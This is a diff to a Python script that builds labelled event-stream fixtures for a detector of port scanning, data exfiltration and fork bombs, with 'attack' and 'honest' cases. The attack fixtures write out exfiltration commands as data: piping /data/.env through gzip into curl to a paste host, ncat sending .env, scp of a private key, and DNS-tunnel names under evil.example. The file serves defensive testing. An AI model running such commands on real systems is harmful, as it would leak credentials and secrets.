@@ -81,6 +81,39 @@ def scanning():
     for i in range(1, 50):
         s.add(30, kind="connect", pid=100, call="connect", protocol=6, address="10.0.0.%d" % i, port=22, verdict="refused", error=111, text="private address 10.0.0.%d" % i)
     s.save()
+    s = Stream("port_scanning.attack-slow")  # one port in five seconds, every third of them open
+    for port in range(20, 60):
+        if port % 3:
+            s.connect(5000, "203.0.113.9", port, error=111)
+        else:
+            s.connect(5000, "203.0.113.9", port).traffic(3, s.connections, 0, 0, "203.0.113.9", port, kind="closed")
+    s.save()
+    s = Stream("port_scanning.attack-sweep-by-name")  # ssh, host by host, each under its name
+    for i in range(40):
+        s.connect(4000, "198.51.100.%d" % i, 22, "node%d.example.org" % i, error=111)
+    s.save()
+    s = Stream("port_scanning.attack-curl-through-proxy")
+    for i in range(45):
+        s.run(200, "/usr/bin/curl", "curl", "-s", "-m", "1", "-x", "http://203.0.113.7:8888", "http://10.0.0.5:%d/" % (9000 + i), pid=300 + i)
+    s.save()
+    s = Stream("port_scanning.attack-connect-through-proxy")
+    for i in range(50):
+        s.connect(300, "203.0.113.7", 3128).traffic(20, i + 1, 60 + i % 3, 110, "203.0.113.7", 3128, kind="closed")
+    s.save()
+    s = Stream("port_scanning.honest-proxy")  # every request a connection of its own
+    for i in range(90):
+        s.run(50, "/usr/bin/curl", "curl", "-s", "-x", "http://203.0.113.7:3128", "https://pypi.org/simple/p%d/" % i, pid=300 + i)
+        s.connect(10, "203.0.113.7", 3128).traffic(300, i + 1, 900, 9000, "203.0.113.7", 3128, kind="closed")
+    s.save()
+    s = Stream("port_scanning.honest-dead-links")  # a checker of links: half of the sites are gone
+    for i in range(120):
+        name = "site%d.example.org" % i
+        s.connect(2000, "198.51.%d.%d" % (i // 100, i % 100), 443 if i % 4 else 80, name, **({"error": 111} if i % 2 else {}))
+    s.save()
+    s = Stream("port_scanning.honest-cluster")  # a client of twelve addresses that are not up yet, asked every five seconds
+    for i in range(240):
+        s.connect(400, "10.1.0.%d" % (i % 12), 9042, error=111)
+    s.save()
     s = Stream("port_scanning.honest-retries")
     for i in range(300):
         s.connect(100, "203.0.113.%d" % (i % 3), 8080, error=111)
@@ -117,6 +150,41 @@ def exfiltration():
     for i in range(100):
         s.add(120, kind="name", name="%06x.evil.example" % (7919 * (i + 1)), arg0=1)
     s.save()
+    s = Stream("data_exfiltration.attack-slow-names")  # two hours of names, ten seconds apart
+    for i in range(40):
+        s.add(10000, kind="name", name="%032x.t.evil.example" % (0x9e3779b97f4a7c15f39cc0605cedc835 * (i + 3) % (1 << 128)), arg0=1)
+    s.save()
+    s = Stream("data_exfiltration.attack-names-after-a-decoy").add(40, kind="file", flags="canary", text="/workspace/.aws/credentials")
+    for i in range(4):
+        s.add(2000, kind="name", name="%010x.%d.c.evil.example" % (0xa19e3779b9 + i * 7919, i), arg0=1)
+    s.save()
+    s = Stream("data_exfiltration.attack-many-peers")
+    for i in range(1, 20):
+        s.connect(3000, "198.51.100.%d" % i, 443).traffic(200, i, 6000, 300, "198.51.100.%d" % i, 443, kind="closed")
+    s.save()
+    out = dict(stdin="file", stdin_id=7)
+    s = Stream("data_exfiltration.attack-env-by-pipe")  # what sends is started first
+    s.run(50, "/usr/bin/curl", "curl", "-s", "--data-binary", "@-", "https://paste.example/", pid=203, stdin="pipe", stdin_id=42)
+    s.run(2, "/usr/bin/gzip", "gzip", "-c", pid=202, stdin="pipe", stdin_id=41, stdout="pipe", stdout_id=42)
+    s.run(2, "/usr/bin/cat", "cat", "/data/.env", pid=201, stdout="pipe", stdout_id=41, **out)
+    s.connect(30, "203.0.113.50", 443, "paste.example", pid=203).traffic(90, 1, 900, 300, "203.0.113.50", 443, name="paste.example", kind="closed").save()
+    s = Stream("data_exfiltration.attack-env-as-input").add(30, kind="file", flags="settings", text="/data/.env", arg0=4711)
+    s.run(5, "/usr/bin/ncat", "ncat", "203.0.113.50", "443", pid=203, stdin="file", stdin_id=4711)
+    s.connect(30, "203.0.113.50", 443, "paste.example", pid=203).traffic(90, 1, 900, 300, "203.0.113.50", 443, name="paste.example", kind="closed").save()
+    s = Stream("data_exfiltration.attack-env-to-an-address").add(30, kind="file", flags="settings", text="/data/.env", arg0=4711)
+    s.connect(30, "203.0.113.50", 443).traffic(90, 1, 900, 300, "203.0.113.50", 443, kind="closed").save()
+    s = Stream("data_exfiltration.attack-key-by-scp").run(50, "/usr/bin/scp", "scp", "-i", "/tmp/key", "/data/id_ed25519", "me@203.0.113.50:", pid=203)
+    s.connect(30, "203.0.113.50", 22, pid=203).traffic(90, 1, 2900, 1300, "203.0.113.50", 22, kind="closed").save()
+    s = Stream("data_exfiltration.honest-env")  # read, and its server talked to
+    s.add(30, kind="file", flags="settings", text="/data/.env", arg0=4711)
+    s.run(5, "/usr/bin/cat", "cat", "/data/.env", pid=201, stdout="pipe", stdout_id=41).run(2, "/usr/bin/grep", "grep", "TOKEN", pid=202, stdin="pipe", stdin_id=41, stdout="pipe", stdout_id=42)
+    s.run(9, "/usr/bin/curl", "curl", "-d", "{}", "https://api.example/", pid=203, stdin="pipe", stdin_id=41).connect(30, "203.0.113.50", 443, "api.example", pid=203)
+    s.traffic(90, 1, 900, 300, "203.0.113.50", 443, name="api.example", kind="closed")
+    s.run(9, "/usr/bin/curl", "curl", "--netrc-file", "/data/.netrc", "-o", "/tmp/.env", "https://me@api.example/x/.env", pid=204)
+    s.connect(30, "203.0.113.50", 443, "api.example", pid=204).traffic(90, 2, 900, 300, "203.0.113.50", 443, name="api.example", kind="closed")
+    s.run(9, "/usr/bin/ssh", "ssh", "-i", "/data/.ssh/id_ed25519", "git@git.example", "git-upload-pack", pid=205)
+    s.run(9, "/usr/bin/rsync", "rsync", "-a", "-e", "ssh -i /data/.ssh/id_rsa", "src/", "git.example:src/", pid=206).run(9, "/usr/bin/rsync", "rsync", ".env", "/tmp/", pid=207)
+    s.connect(30, "203.0.113.51", 22, "git.example", pid=205).traffic(90, 3, 9000, 3000, "203.0.113.51", 22, name="git.example", kind="closed").save()
     s = Stream("data_exfiltration.honest-upload").add(9, kind="file", pid=100, call="openat", flags="for_writing", text="/workspace/result.csv")
     s.connect(50, "203.0.113.50", 443, "results.example.org")
     for i in range(1, 21):
@@ -129,6 +197,27 @@ def exfiltration():
         for host in ("d%013x.cloudfront.net" % (i * 0x1234567), "www.site%d.example" % i, "my-long-bucket-name-%d.s3.eu-central-1.amazonaws.com" % i, "%d.0.0.10.in-addr.arpa" % i):
             s.add(30, kind="name", name=host, arg0=1)
     s.save()
+
+
+def forks():
+    def grown(name, pids):
+        s = Stream("fork_bomb_detection." + name)
+        for i in range(1, 60):
+            s.add(1000, kind="sample", cpu_us=i * 1000, memory_bytes=40 << 20, pids=min(3 + i, pids))
+        return s
+
+    s = grown("attack-slow", 20)  # at medium: one more process a second, for ever
+    for i in range(30):
+        s.add(1000, kind="sample", cpu_us=90000 + i, memory_bytes=40 << 20, pids=20).add(1, kind="limit", text="pids", arg0=i + 1)
+    s.save()
+    s = Stream("fork_bomb_detection.attack-ended-by-the-limit").add(60, kind="sample", cpu_us=9000, memory_bytes=40 << 20, pids=20)
+    s.add(30, kind="limit", text="pids", arg0=14).add(1, kind="end", text="pids_limit").save()
+    s = Stream("fork_bomb_detection.attack-ended-where-askers-are-known")
+    s.add(30, kind="limit", text="pids", arg0=12, arg1=8).add(1, kind="end", text="pids_limit").save()
+    s = Stream("fork_bomb_detection.honest-pool-too-large")  # gives up at the first refusal
+    s.add(90, kind="sample", cpu_us=9000, memory_bytes=40 << 20, pids=20).add(30, kind="limit", text="pids", arg0=2).add(1, kind="end", text="pids_limit").save()
+    s = Stream("fork_bomb_detection.honest-pipeline-too-long")  # a shell and its subshell try again
+    s.add(90, kind="sample", cpu_us=9000, memory_bytes=40 << 20, pids=6).add(30, kind="limit", text="pids", arg0=9, arg1=2).add(1, kind="end", text="pids_limit").save()
 
 
 PIPES = dict(stdin="pipe", stdin_id=71, stdout="pipe", stdout_id=72, stderr="pipe", stderr_id=72)
@@ -171,5 +260,5 @@ def shells():
     s.run(1, "/usr/bin/curl", "curl", "-d", "@-", "https://x.example", pid=202, stdin="pipe", stdin_id=71).connect(30, "203.0.113.7", 443, "x.example", pid=202).save()
 
 
-for make in (mining, scanning, exfiltration, shells):
+for make in (mining, scanning, exfiltration, forks, shells):
     make()
